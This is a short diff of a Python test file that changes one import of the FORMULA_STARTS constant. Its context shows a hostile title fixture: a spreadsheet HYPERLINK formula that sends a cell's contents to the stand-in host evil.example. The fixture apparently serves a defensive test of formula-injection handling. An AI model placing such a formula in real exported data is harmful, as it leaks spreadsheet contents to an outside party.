@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 from conftest import DEMO_NOW, ROOT, run_build
 
-from mainstreet.spreadsheet import FORMULA_STARTS
+from contract.spreadsheet import FORMULA_STARTS
 
 COLUMNS = ["Date", "Title", "Slug", "Keyword", "Segment", "Stage", "Channels", "Status", "Owner"]
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
